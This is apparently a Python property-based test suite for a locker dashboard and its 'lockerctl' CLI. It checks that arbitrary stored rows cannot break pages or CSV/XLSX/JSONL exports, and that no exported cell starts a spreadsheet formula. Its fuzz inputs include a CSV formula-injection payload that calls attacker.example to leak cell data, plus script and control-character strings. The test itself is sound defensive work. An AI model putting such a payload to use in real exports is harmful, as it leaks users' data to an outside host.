"""Nothing stored can break a page or an export (issue 13): arbitrary rows written straight into
the store (events with any value their columns hold, a locker `state` of any JSON) and every
page, every export format (the dashboard's downloads and `lockerctl export`) and `lockerctl sar`
still answer, with output that parses; impossible times show as such; text that a spreadsheet
would run stays inert."""

from __future__ import annotations

import csv
import io
import json
import re
import time

import pytest
import sqlalchemy as sa
from click.testing import CliRunner
from conftest import PASSWORDS, SITE
from harness import budget
from hypothesis import example, given
from hypothesis import strategies as st
from test_accounts import Client

I64 = st.integers(-(2**63), 2**63 - 1)
FORMULA = ("=", "+", "-", "@", "\t", "\r")
texts = st.one_of(
    st.text(st.characters(blacklist_categories=("Cs",)), max_size=60),
    st.builds(
        lambda a, b: a + b,
        st.sampled_from(FORMULA + ("'", "<script>", '"', "\x00", "\x1b[31m")),
        st.text(st.characters(blacklist_categories=("Cs",)), max_size=20),
    ),
    st.just('=HYPERLINK("http://attacker.example/?leak="&E3&F3,"Details")'),
)
times = st.one_of(
    st.none(),
    I64,
    st.sampled_from([0, 2**32 - 1, 2**32, 2**40, 253402300800, -1, 1_790_000_000]),
)
event_rows = st.fixed_dictionaries(
    {
        "locker_id": st.one_of(st.sampled_from(["L1", "L2", "L9"]), st.text(max_size=28)),
        "ts": times,
        "type": st.one_of(st.sampled_from(["deposit", "uncollected", "door_forced"]), texts),
        "bay": st.one_of(st.none(), I64),
        "person": st.one_of(st.none(), st.sampled_from(["P001", "S001"]), texts),
        "by": st.one_of(st.none(), st.sampled_from(["H001"]), texts),
        "reason": st.one_of(st.none(), texts),
        "received_at": st.one_of(I64, st.just(1_790_000_000)),
        "sort_ts": st.one_of(I64, st.just(1_790_000_000)),
    }
)
json_values = st.recursive(
    st.one_of(
        st.none(),
        st.booleans(),
        I64,
        st.floats(allow_nan=False, allow_infinity=False),
        texts,
        st.sampled_from(["open", "closed", "P001"]),
    ),
    lambda inner: st.one_of(
        st.lists(inner, max_size=4),
        st.dictionaries(
            st.one_of(st.sampled_from(["bays", "bay", "holder", "locked", "door"]), st.text()),
            inner,
            max_size=4,
        ),
    ),
    max_leaves=12,
)
states = st.one_of(
    json_values,
    st.fixed_dictionaries(
        {"bays": st.lists(json_values, max_size=4)},
        optional={"clock_ok": json_values, "pending": json_values, "config": json_values},
    ),
)
PAGES = [
    "/lockers",
    "/api/lockers",
    "/api/events",
    "/api/state",
    "/alerts",
    "/api/alerts",
    "/trail",
    "/trail?page=2",
    "/trail?page=99999999999999999999999",
    "/grants",
    "/open",
    "/admin/lockers",
    "/admin/roster",
    "/admin/timetable",
    "/admin/users",
    "/api/v1/lockers",
    "/api/v1/alerts",
    "/api/v1/trail",
    "/api/v1/events",
]
OFFICE_PAGES = [
    p
    for p in PAGES
    if not p.startswith(("/trail", "/grants", "/admin", "/api/v1/trail", "/api/v1/events"))
]


@pytest.fixture
def clients(dash):
    admin, office = Client(dash.url), Client(dash.url)
    assert admin.login("root", PASSWORDS["root"])[0] == 303
    assert office.login("olive", PASSWORDS["olive"])[0] == 303
    return admin, office


def no_formula_in_csv(text: str) -> list[list[str]]:
    """The CSV read the way a spreadsheet reads it: no cell may start a formula."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    for row in rows:
        for cell in row:
            if re.fullmatch(r"-?[0-9]+", cell):
                continue  # a number stays a number (a negative bay or seq)
            assert not cell.startswith(FORMULA), cell
    return rows


def no_formula_in_xlsx(data: bytes) -> list[tuple]:
    from openpyxl import load_workbook

    ws = load_workbook(io.BytesIO(data)).active
    rows = []
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value
        rows.append(tuple(c.value for c in row))
    return rows


@budget(25)
@given(rows=st.lists(event_rows, max_size=6), state=states)
@example(rows=[{**dict.fromkeys(("bay", "person", "by", "reason")), "locker_id": "L1",
               "ts": 2**40, "type": "deposit", "received_at": 0, "sort_ts": 2**40}],
         state={"bays": 5})  # fmt: skip
@example(rows=[], state=None)
@example(rows=[], state={"bays": [{"bay": 1, "holder": ["P001"]}, {"bay": "2"}, 7]})
def test_any_stored_row_renders_on_every_page_and_export(dash, clients, tmp_path, rows, state):
    from lockerctl.cli import _load_commands
    from lockerctl.clibase import cli
    from lockerctl.store.tables import events, lockers

    store = dash.store
    with store.engine.begin() as conn:
        base = conn.execute(sa.select(sa.func.max(events.c.id))).scalar()
        for i, row in enumerate(rows):
            conn.execute(events.insert().values(site=SITE, seq=10_000 + i, **row))
        conn.execute(
            lockers.update()
            .where(lockers.c.site == SITE, lockers.c.id == "L1")
            .values(state=sa.null() if state is None else state)
        )
    try:
        admin, office = clients
        for client, who in ((admin, "admin"), (office, "office")):
            for path in PAGES if who == "admin" else OFFICE_PAGES:
                status, headers, body = client.request(path)
                assert status == 200, (who, path, status, body[:2000])
                assert "Traceback" not in body
                if path.startswith("/api/"):
                    json.loads(body)
        # the admin's downloads
        status, _, body = admin.request("/trail.csv")
        assert status == 200
        got = no_formula_in_csv(body)
        assert len(got) == 1 + 5 + len(rows)  # the header, the fixture's 5 events, ours
        req = admin.opener.open(admin.base + "/trail.xlsx")
        assert len(no_formula_in_xlsx(req.read())) == 1 + 5 + len(rows)

        # `lockerctl export` in every format and `lockerctl sar`
        _load_commands()
        db = str(store.engine.url)
        runner = CliRunner()
        for fmt in ("csv", "jsonl", "xlsx"):
            out = tmp_path / f"out.{fmt}"
            r = runner.invoke(cli, ["export", "--format", fmt, "-o", str(out), "--db", db])
            assert r.exit_code == 0, (fmt, r.output, r.exception)
            if fmt == "csv":
                got = no_formula_in_csv(out.read_text(encoding="utf-8"))
            elif fmt == "xlsx":
                got = no_formula_in_xlsx(out.read_bytes())
            else:
                text = out.read_text(encoding="utf-8")
                assert text.splitlines() == text.split("\n")[:-1]  # one line each, any reader
                got = [json.loads(line) for line in text.splitlines()]
                assert len(got) == 5 + len(rows)
                continue
            assert len(got) == 1 + 5 + len(rows)
        r = runner.invoke(cli, ["locker", "list", "--db", db])
        assert r.exit_code == 0 and "L1" in r.stdout, (r.output, r.exception)
        for person in ("P001", "H001"):
            r = runner.invoke(cli, ["sar", person, "--db", db])
            assert r.exit_code == 0, (r.output, r.exception)
            json.loads(r.stdout)
    finally:
        with store.engine.begin() as conn:
            conn.execute(events.delete().where(events.c.id > base))


def test_an_impossible_time_shows_as_such_and_a_missing_one_as_received(dash, clients):
    from lockerctl.store.tables import events

    with dash.store.engine.begin() as conn:
        conn.execute(
            events.insert(),
            [
                dict(site=SITE, locker_id="L1", seq=900, ts=2**40, type="deposit", bay=1,
                     received_at=1_790_000_000, sort_ts=2**40),
                dict(site=SITE, locker_id="L1", seq=901, ts=None, type="boot", bay=None,
                     received_at=1_790_000_000, sort_ts=1_790_000_000),
                dict(site=SITE, locker_id="L1", seq=902, ts=-(2**63), type="door_forced",
                     bay=2**40, received_at=int(time.time()), sort_ts=2**62),
            ],
        )  # fmt: skip
    admin, _ = clients
    _, _, trail = admin.request("/trail")
    assert "invalid time (ts=1099511627776)" in trail
    assert "2026-09-21 15:13:20 (received)" in trail  # received_at in Europe/London
    _, _, alerts = admin.request("/alerts")  # received now: within the alert window
    assert "invalid time (ts=-9223372036854775808)" in alerts
    dash.store.ingest(SITE, [("L2", {"seq": 1, "ts": None, "type": "door_forced", "bay": 1,
                                      "person": None, "by": None, "reason": None})])  # fmt: skip
    _, _, alerts = admin.request("/alerts")
    received = re.findall(r"<td>([0-9-]+ [0-9:]+) \(received\)</td>", alerts)
    assert len(received) == 1, alerts  # the clock-less door_forced, at its receipt time
    _, _, body = admin.request("/trail.csv")
    rows = {r["seq"]: r for r in csv.DictReader(io.StringIO(body))}
    assert rows["900"]["time"] == "invalid time (ts=1099511627776)"
    assert rows["901"]["time"] == "2026-09-21T15:13:20+01:00"  # ISO: the mark is its own column
    assert rows["901"]["time_source"] == "received"


def test_a_malformed_state_shows_as_unreadable_and_the_other_lockers_still_show(dash, clients):
    dash.store.set_locker_status(SITE, "L1", state={"bays": 5})
    admin, office = clients
    for client in (admin, office):
        status, _, body = client.request("/lockers")
        assert status == 200
        assert "unreadable state" in body
        assert 'data-locker="L2"' in body  # the other locker is unaffected
    dash.store.set_locker_status(
        SITE, "L1", state={"bays": [{"bay": 1, "holder": ["P001"]}, {"bay": 2, "holder": "P001"}]}
    )
    status, _, body = admin.request("/lockers")
    assert status == 200 and "1 unreadable bay report(s)" in body
    assert 'data-bay="2" data-status="occupied"' in body and "Pia Pupil" in body
    state = json.loads(admin.request("/api/state")[2])
    l1 = next(x for x in state["lockers"] if x["id"] == "L1")
    assert [b["bay"] for b in l1["bays"]] == [2]
